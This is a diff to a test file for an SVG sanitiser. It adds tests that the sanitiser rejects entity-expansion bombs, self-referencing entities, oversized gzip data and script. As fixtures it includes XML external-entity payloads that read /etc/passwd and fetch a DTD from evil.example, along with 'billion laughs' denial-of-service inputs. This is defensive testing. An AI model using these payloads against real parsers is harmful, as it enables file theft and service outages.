@@ -2,6 +2,7 @@
 // A sanitized SVG contains no code, refers to nothing external, looks the same, and is cheap to render.
 import assert from 'node:assert/strict'
 import { describe, test } from 'node:test'
+import { gzipSync } from 'node:zlib'
 import sharp from 'sharp'
 import { cleanSvg, readSafely } from '../src/images/svg.ts'
 import { NotSvgError, UnsafeSvgError } from '../src/images/svg-errors.ts'
@@ -269,7 +270,6 @@ describe('a file that is not an SVG', () => {
     blanks: '   \n',
     'plain text': 'hello',
     HTML: '<!DOCTYPE html><html><body><svg/></body></html>',
-    'an svg without a namespace': '<svg width="1" height="1"/>',
     'another root of the namespace': '<g xmlns="http://www.w3.org/2000/svg"/>',
     'half a document': svg('<g>').slice(0, -6),
     'two roots': svg('') + svg(''),
@@ -318,10 +318,19 @@ describe('documents that are too expensive to process', () => {
       { length: 9 },
       (_, n) => `<${element} id="l${n + 1}">${`<rect ${reference(`l${n}`)}/>`.repeat(10)}</${element}>`,
     ).join('')
-  const entity = '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
+  const entity = (levels: number) =>
+    Array.from(
+      { length: levels },
+      (_, n) => `<!ENTITY a${n} "${n === 0 ? 'a' : `&a${n - 1};`.repeat(10)}">`,
+    ).join('')
   const many = 100_001
   const expensive: Record<string, string> = {
-    'a billion laughs': `<!DOCTYPE svg [${entity}]>${svg('<text>&b;</text>')}`,
+    'a billion laughs': `<!DOCTYPE svg [${entity(10)}]>${svg('<text>&a9;</text>')}`,
+    'a billion laughs in an attribute': `<!DOCTYPE svg [${entity(10)}]>${svg('<g id="&a9;"/>')}`,
+    'an entity that is used a million times': `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(1e5)}">]>${svg(`<text>${'&a;'.repeat(20)}</text>`)}`,
+    'an entity that refers to itself': `<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${svg('<text>&a;</text>')}`,
+    'an entity of markup': `<!DOCTYPE svg [<!ENTITY a "<script/>">]>${svg('<g>&a;</g>')}`,
+    'too many entities': `<!DOCTYPE svg [${entity(1_001)}]>${svg('')}`,
     'an external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
     'a billion laughs by use': svg(`<g id="l0"><rect/></g>${uses(9, 10)}`),
     'a billion laughs by patterns': svg(`<rect id="l0"/>${laughs((id) => `fill="url(#${id})"`, 'pattern')}`),
@@ -422,6 +431,88 @@ describe('documents that are too expensive to process', () => {
     const doctype =
       '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
     assert.equal(clean(doctype + svg('<rect/>')), clean(svg('<rect/>')))
+  })
+
+  test('a DOCTYPE that declares attributes, comments or entities that are not used is ignored', () => {
+    for (const declared of [
+      '<!ATTLIST svg xmlns:attrib CDATA #IMPLIED xmlns:xlink CDATA #FIXED "http://www.w3.org/1999/xlink">',
+      `<!-- an author's "note" --><!ELEMENT svg ANY>`,
+      '<!ENTITY laugh "&laugh;&laugh;">',
+      '<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "https://evil.example/x.dtd">%more;',
+      '<!-- <!ENTITY a "a"> -->',
+    ])
+      assert.equal(
+        clean(`<!DOCTYPE svg [\n${declared}\n]>${svg('<rect/>')}`),
+        clean(svg('<rect/>')),
+        declared,
+      )
+  })
+
+  test('entities of namespaces and texts are expanded, as Illustrator writes them', () => {
+    const declared = `<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_xlink 'http://www.w3.org/1999/xlink'>
+      <!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/"><!ENTITY st0 "fill:#E30613;"><!ENTITY a "&#65;&st0;&amp;">`
+    const document = `<!DOCTYPE svg [${declared}]><svg xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" xmlns:x="&ns_extend;"
+      viewBox="0 0 9 9"><switch><foreignObject requiredExtensions="&ns_extend;"/><g x:extraneous="self"><rect style="&st0;"/></g></switch><text>&a;</text></svg>`
+    assert.equal(
+      clean(document),
+      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><switch><g><rect style="fill:#E30613"/></g></switch>' +
+        '<text>Afill:#E30613;&amp;</text></svg>',
+    )
+  })
+
+  test('entities that cannot be expanded are refused with advice', () => {
+    assert.throws(
+      () => clean(`<!DOCTYPE svg [<!ENTITY a "&a;">]>${svg('<text>&a;</text>')}`),
+      /Export it again as plain SVG; in Illustrator, without «Preserve Illustrator Editing Capabilities»/,
+    )
+  })
+})
+
+describe('a document that is written otherwise', () => {
+  test('is read by its declared encoding', () => {
+    const encoded: [string, Buffer][] = [
+      ['windows-1251', Buffer.from('cff0e8e2e5f2', 'hex')],
+      ['koi8-r', Buffer.from('f0d2c9d7c5d4', 'hex')],
+      ['ISO-8859-5', Buffer.from('bfe0d8d2d5e2', 'hex')],
+      ['UTF-8', Buffer.from('Привет')],
+    ]
+    const around = (encoding: string) => {
+      const [before, after] = svg('<text>TEXT</text>').split('TEXT')
+      return [`<?xml version="1.0" encoding="${encoding}"?>${before}`, after!].map((part) =>
+        Buffer.from(part),
+      )
+    }
+    for (const [encoding, text] of encoded) {
+      const [before, after] = around(encoding)
+      assert.match(clean(Buffer.concat([before!, text, after!])), /<text>Привет<\/text>/, encoding)
+    }
+    const [before, after] = around('iso-8859-15')
+    assert.match(clean(Buffer.concat([before!, Buffer.from('a4bc', 'hex'), after!])), /<text>€Œ<\/text>/)
+  })
+
+  test('is read as UTF-16 without a byte order mark, and as UTF-8 where only the declaration says UTF-16', () => {
+    const text = `<?xml version="1.0" encoding="UTF-16"?>${svg('<text>Café</text>')}`
+    const wide = Buffer.from(text, 'utf16le')
+    for (const bytes of [wide, Buffer.from(wide).swap16(), Buffer.from(text)])
+      assert.match(clean(bytes), /<text>Café<\/text>/)
+  })
+
+  test('is unpacked if it is compressed, within limits', () => {
+    assert.equal(clean(gzipSync(svg('<rect/>'))), clean(svg('<rect/>')))
+    assert.throws(() => clean(gzipSync(Buffer.alloc(20 * 2 ** 20, ' '))), /larger than 16 MB, unpacked/)
+    assert.throws(() => clean(gzipSync(svg('<rect/>')).subarray(0, 40)), NotSvgError)
+    assert.throws(() => clean(gzipSync(gzipSync(svg('<rect/>')))), NotSvgError)
+  })
+
+  test('gets the namespace of SVG when its root has none, as in a web page', () => {
+    const bare = '<svg viewBox="0 0 9 9"><script/><rect onclick="a()"/><use xlink:href="#a"/></svg>'
+    assert.equal(
+      clean(bare),
+      '<svg xmlns:xlink="http://www.w3.org/1999/xlink" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect/>' +
+        '<use xlink:href="#a"/></svg>',
+    )
+    for (const other of ['<g/>', '<html><svg/></html>', '<svg xmlns="http://www.w3.org/1999/xhtml"/>'])
+      assert.throws(() => clean(other), NotSvgError)
   })
 })
 
